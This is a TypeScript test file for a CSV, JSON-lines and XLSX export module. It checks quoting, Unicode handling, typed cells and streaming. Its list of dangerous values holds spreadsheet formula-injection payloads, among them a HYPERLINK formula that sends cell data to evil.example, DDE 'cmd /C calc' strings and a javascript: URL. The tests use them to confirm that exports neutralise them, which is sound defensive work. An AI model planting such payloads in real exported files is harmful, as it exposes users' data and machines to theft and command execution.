import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { unzipSync } from 'fflate'
import { parseDocument } from 'htmlparser2'
import { parsePhoneNumber } from 'libphonenumber-js'
import { describe, expect, test } from 'vitest'
import { type Cell, day, type FileWriter, list, moment, number, text, yesNo } from './cell.ts'
import { writeCsv, writeJsonLines } from './csv-and-json-lines.ts'
import { wordBatches } from './export-download.ts'
import { writeXlsx, writeSheets } from './xlsx.ts'

const columnsOf = (count: number) =>
  Array.from({ length: count }, (_, at) => ({ key: `key${at}`, label: `Größe, ${at}` }))

async function* inBatches(rows: Cell[][], size = 3): AsyncGenerator<Cell[][]> {
  for (let at = 0; at < rows.length; at += size) yield rows.slice(at, at + size)
}

async function bytesOf(pieces: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const kept: Buffer[] = []
  for await (const piece of pieces) kept.push(Buffer.from(piece))
  return Buffer.concat(kept)
}

const write = (writer: FileWriter, rows: Cell[][], separator?: 'semicolon') =>
  bytesOf(
    writer({
      columns: columnsOf(rows[0]?.length ?? 1),
      batches: inBatches(rows),
      maxRows: rows.length,
      separator,
    }),
  )

const COMPANY = 'Lampen "Ümit" & <Söhne>, GmbH\nZeile 2'
const oneOfEach: Cell[] = [
  text(COMPANY),
  number(19.9),
  yesNo(true),
  day('2026-03-09'),
  moment(new Date('2026-03-09T10:30:00.000Z')),
  list(['Loox', 'Klaviyo']),
  text(null),
]

/** Blanks of every width, zero-width characters, fillers, marks of direction, control characters. */
const BLANKS = [
  ...' \u00a0\u1680\u2000\u2003\u200a\u2028\u202f\u205f\u3000\u0085',
  ...'\u00ad\u034f\u061c\u115f\u180e\u200b\u200d\u200e\u202e\u2060\u2066\u2800\u3164\ufe0f\ufeff\uffa0\u{e0020}\ufff9',
]

const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  '+49 30 901820-12',
  '+1+cmd|" /C calc"!A0',
  '+A1',
  '+49(30)901820',
  '++49',
  '+ 49',
  ' +49 30 901820',
  '\uff0b49 30 901820',
  '+49 30 901820;=1+1',
  '+49 30 901820\n=1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '\u0007=1+1',
  '\uff1d1+1',
  '\ufe661+1',
  ...BLANKS.map((blank) => `${blank}=1+1`),
  ` \u00a0\u200b${'\u3000'.repeat(3)}@SUM(1)`,
]

describe('CSV', () => {
  const cellsOf = (file: Buffer): string[][] => parse(file, { bom: true, relaxColumnCount: false })
  /** Of one of each, after the text and the number. */
  const OTHERS = ['true', '2026-03-09', '2026-03-09T10:30:00.000Z', 'Loox, Klaviyo', '']

  test('is UTF-8 with BOM, commas, CRLF, ISO dates and translated headers', async () => {
    const file = await write(writeCsv, [oneOfEach])
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(file.toString('utf8').split('\r\n')[0]).toContain('"Größe, 0","Größe, 1"')
    expect(cellsOf(file)[1]).toEqual([COMPANY, '19.9', ...OTHERS])
  })

  test.each(DANGEROUS.map((value) => [value]))(
    '%j is written as text',
    { tags: ['check-64'] },
    async (value) => {
      const [, [cell = ''] = []] = cellsOf(await write(writeCsv, [[text(value), text('next')]]))
      expect(cell).toMatch(/^'/)
      expect(cell.replaceAll("'", '')).toBe(value.replace(/[\0\u0007]/g, ''))
    },
  )

  test.each([
    ['Lamp;=1+1', "Lamp;'=1+1"],
    ['Lamp\n@cmd', "Lamp\n'@cmd"],
    ['Lamp; "=1+1"', 'Lamp; "\'=1+1"'],
    ['a=b, c+d, e-f, g@h.example', 'a=b, c+d, e-f, g@h.example'],
    ['Mode; Schmuck', 'Mode; Schmuck'],
    ['Lamp;\u3000\u200b=1+1', "Lamp;\u3000\u200b'=1+1"],
  ])(
    '%j holds no formula even when split at semicolons',
    { tags: ['check-64'] },
    async (value, expected) => {
      expect(cellsOf(await write(writeCsv, [[text(value)]]))[1]).toEqual([expected])
    },
  )

  test.each(['+4930901820', '+49 30 901820', '+90 212 555 01 23', '+1 415\u00a0555 0123', '+0'])(
    'the telephone number %s stays as it is, in quotation marks',
    async (number) => {
      const file = await write(writeCsv, [[text(number), text('')]])
      expect(file.toString('utf8')).toContain(`\r\n"${number}",`)
      const [, [cell = ''] = []] = cellsOf(file)
      expect(cell).toBe(number)
      if (number.length > 5) expect(parsePhoneNumber(cell).isPossible()).toBe(true)
    },
  )

  test.each([
    ['Lamp,=1+1', "Lamp,'=1+1"],
    ['Lamp, "@cmd"', 'Lamp, "\'@cmd"'],
    ['Lamp;-1', "Lamp;'-1"],
    ['=1+1', "'=1+1"],
    ['a=b, c+d', 'a=b, c+d'],
  ])('with semicolons, %j holds no formula even when split at commas', async (value, expected) => {
    const file = await write(writeCsv, [[text(value)]], 'semicolon')
    expect(parse(file, { bom: true, delimiter: ';' })[1]).toEqual([expected])
  })

  test('with semicolons has decimal commas, and the same texts and days', async () => {
    const row = [...oneOfEach, text('a;b'), number(-1234.5), number(7), text('+4930901820')]
    const file = await write(writeCsv, [row], 'semicolon')
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const others = [...OTHERS, 'a;b', '-1234,5', '7', '+4930901820']
    expect(parse(file, { bom: true, delimiter: ';' })[1]).toEqual([COMPANY, '19,9', ...others])
  })

  test(
    'keeps the row count for any content, and returns every harmless text unchanged',
    { tags: ['check-64'] },
    async () => {
      const anything = fc.string({
        unit: fc.constantFrom(...' ,;"\'\n\r\t=+-@aä😀\0'.split(''), '\r\n'),
        maxLength: 12,
      })
      await fc.assert(
        fc.asyncProperty(
          fc.array(fc.tuple(anything, anything, fc.string({ maxLength: 8 })), {
            minLength: 1,
            maxLength: 12,
          }),
          async (rows) => {
            const cells = cellsOf(
              await write(
                writeCsv,
                rows.map((row) => row.map((value) => text(value))),
              ),
            )
            expect(cells).toHaveLength(rows.length + 1)
            for (const cell of cells.slice(1).flat())
              if (!/^\+\d[ \d]*$/.test(cell)) expect(cell).not.toMatch(/(^|[;\t\r\n]["\s]*)[=+\-@]/)
          },
        ),
        { numRuns: 60 },
      )
      const harmless = [
        '  spaced  ',
        '\u3000\u5bb6\u5177',
        '\u00a0a=b',
        'Café “Zoë”',
        'a,b',
        '日本',
        "it's",
        'line\nline',
      ]
      const cells = cellsOf(
        await write(
          writeCsv,
          harmless.map((value) => [text(value), text('x')]),
        ),
      )
      expect(cells.slice(1).map(([cell]) => cell)).toEqual(harmless)
    },
  )
})

test('JSON lines hold one object per line, typed, by stable keys', async () => {
  const lines = (await write(writeJsonLines, [oneOfEach, oneOfEach]))
    .toString('utf8')
    .trimEnd()
    .split('\n')
  expect(lines).toHaveLength(2)
  expect(JSON.parse(lines[0] ?? '')).toEqual({
    key0: COMPANY,
    key1: 19.9,
    key2: true,
    key3: '2026-03-09',
    key4: '2026-03-09T10:30:00.000Z',
    key5: ['Loox', 'Klaviyo'],
    key6: null,
  })
})

describe('XLSX', () => {
  type Read = { place: string; type: string | undefined; style: string; text: string }

  /** Read back with a ZIP reader and an XML reader that share no code with the writer. */
  function sheetsOf(file: Buffer): { cells: Read[]; parts: Record<string, string> }[] {
    const parts = Object.fromEntries(
      Object.entries(unzipSync(new Uint8Array(file))).map(([name, bytes]) => [
        name,
        Buffer.from(bytes).toString('utf8'),
      ]),
    )
    const sheets = Object.keys(parts).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))
    return sheets.toSorted().map((name) => ({ cells: cellsIn(parts[name] ?? ''), parts }))
  }

  type Node = { name?: string; attribs?: Record<string, string>; children?: Node[]; data?: string }
  const textIn = ({ data = '', children = [] }: Node): string =>
    data + children.map(textIn).join('')

  function cellsIn(xml: string): Read[] {
    const found: Read[] = []
    const walk = ({ name, attribs = {}, children = [], ...rest }: Node) => {
      expect(name).not.toBe('f')
      if (name === 'c')
        found.push({
          place: attribs['r'] ?? '',
          type: attribs['t'],
          style: attribs['s'] ?? '0',
          text: textIn({ ...rest, children }),
        })
      children.forEach(walk)
    }
    walk(parseDocument(xml, { xmlMode: true, decodeEntities: true }) as Node)
    return found
  }

  test('has typed cells, real dates, and a frozen header row', async () => {
    const [sheet] = sheetsOf(await write(writeXlsx, [oneOfEach]))
    expect(
      sheet?.cells.slice(0, 7).every(({ style, type }) => style === '1' && type === 'inlineStr'),
    ).toBe(true)
    expect(sheet?.cells.slice(7)).toEqual([
      { place: 'A2', type: 'inlineStr', style: '0', text: COMPANY },
      { place: 'B2', type: undefined, style: '0', text: '19.9' },
      { place: 'C2', type: 'b', style: '0', text: '1' },
      { place: 'D2', type: undefined, style: '2', text: '46090' },
      { place: 'E2', type: undefined, style: '3', text: '46090.4375' },
      { place: 'F2', type: 'inlineStr', style: '0', text: 'Loox, Klaviyo' },
    ])
    expect(sheet?.parts['xl/worksheets/sheet1.xml']).toContain('state="frozen"')
    expect(Object.keys(sheet?.parts ?? {}).toSorted()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/_rels/sheet1.xml.rels',
      'xl/worksheets/sheet1.xml',
    ])
  })

  test(
    'a value that looks like a formula is stored as text, and stays text when edited',
    { tags: ['check-64'] },
    async () => {
      const [sheet] = sheetsOf(
        await write(
          writeXlsx,
          DANGEROUS.map((value) => [text(value)]),
        ),
      )
      const cells = sheet?.cells.slice(1) ?? []
      expect(cells).toHaveLength(DANGEROUS.length)
      for (const { type, style } of cells) expect([type, style]).toEqual(['inlineStr', '4'])
      expect(cells[2]?.text).toBe('+49 30 901820-12')
    },
  )

  test('holds any text, even text that looks like its own markup', async () => {
    const odd = ['_x0041_', 'a\u0001b', '\ud800x', '</t></is></c>', '&amp;', 'x'.repeat(40_000)]
    const [sheet] = sheetsOf(
      await write(
        writeXlsx,
        odd.map((value) => [text(value)]),
      ),
    )
    const texts = sheet?.cells.slice(1).map((cell) => cell.text)
    expect(texts?.slice(0, 5)).toEqual(['_x005F_x0041_', 'ab', '\ufffdx', '</t></is></c>', '&amp;'])
    expect(texts?.[5]).toHaveLength(32_767)
  })

  test('makes addresses of web pages links, and columns as wide as their values', async () => {
    const urls = ['https://lamp.example/?a=1&b="2"', 'javascript:alert(1)', 'see https://a.example']
    const files = unzipSync(
      await write(
        writeXlsx,
        urls.map((value, at) => [number(at), text(value)]),
      ),
    )
    const read = (name: string) => Buffer.from(files[`xl/worksheets/${name}`] ?? []).toString()
    const sheet = read('sheet1.xml')
    expect(sheet.match(/<hyperlinks>.*<\/hyperlinks>/)?.[0]).toBe(
      '<hyperlinks><hyperlink ref="B2" r:id="l1"/></hyperlinks>',
    )
    expect(read('_rels/sheet1.xml.rels').match(/<Relationship [^>]*>/g)).toEqual([
      '<Relationship Id="l1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://lamp.example/?a=1&amp;b=%222%22" TargetMode="External"/>',
    ])
    const widths = [...sheet.matchAll(/<col [^>]*width="(\d+)"/g)].map(([, width]) => Number(width))
    expect(widths[1]).toBeGreaterThan(30)
    expect(widths[0]).toBeLessThan(20)
  })

  test('continues on a new sheet when one is full, and is valid with no rows', async () => {
    const rows = Array.from({ length: 5 }, (_, at) => [number(at)])
    const sheets = sheetsOf(
      await bytesOf(
        writeSheets({ columns: columnsOf(1), batches: inBatches(rows), maxRows: 5 }, 2),
      ),
    )
    expect(sheets.map(({ cells }) => cells.slice(1).map((cell) => cell.text))).toEqual([
      ['0', '1'],
      ['2', '3'],
      ['4'],
    ])
    expect(sheetsOf(await write(writeXlsx, []))).toHaveLength(1)
  })
})

test.for([
  ['de', ['Deutschland', 'Englisch', 'Mode', 'Offen', 'XK-unknown', 'Schweiz, Türkei']],
  ['tr', ['Almanya', 'İngilizce', 'Giyim', 'Açık', 'XK-unknown', 'İsviçre, Türkiye']],
] as const)(
  'codes become words of %s, and a code without a word stays',
  async ([language, words]) => {
    const columns = ['country', 'language', 'category', 'status', 'storeCountry', 'shipsTo']
    const row = [
      text('DE'),
      text('en'),
      text('fashion'),
      text('OPEN'),
      text('XK-unknown'),
      list(['CH', 'TR']),
    ]
    for await (const rows of wordBatches(inBatches([row]), columns, language))
      expect(rows.map((cells) => cells.map(({ value }) => [value].flat().join(', ')))).toEqual([
        words,
      ])
  },
)

describe.each([
  ['CSV', writeCsv],
  ['JSON lines', writeJsonLines],
  ['XLSX', writeXlsx],
] as const)('%s', (_name, writer) => {
  /** Reports how many rows were consumed, and whether the source was closed. */
  function watched(limit: number, failAt = Number.POSITIVE_INFINITY) {
    const seen = { taken: 0, isClosed: false }
    async function* batches(): AsyncGenerator<Cell[][]> {
      try {
        while (seen.taken < limit) {
          if (seen.taken >= failAt) throw new Error('the database went away')
          seen.taken += 100
          yield Array.from({ length: 100 }, () => [
            text('x'.repeat(1_000 + Math.random() * 10)),
            text(crypto.randomUUID()),
          ])
        }
      } finally {
        seen.isClosed = true
      }
    }
    return { seen, parts: { columns: columnsOf(2), batches: batches(), maxRows: limit } }
  }

  test('reads rows only as fast as its reader takes bytes, and closes the source when the reader stops', async () => {
    const { seen, parts } = watched(1_000_000)
    let bytes = 0
    for await (const piece of writer(parts)) if ((bytes += piece.length) > 50_000) break
    expect(seen.isClosed).toBe(true)
    expect(seen.taken).toBeLessThan(100_000)
  })

  test('fails when its source fails', async () => {
    const { seen, parts } = watched(1_000, 500)
    await expect(bytesOf(writer(parts))).rejects.toThrow('the database went away')
    expect(seen.isClosed).toBe(true)
  })
})
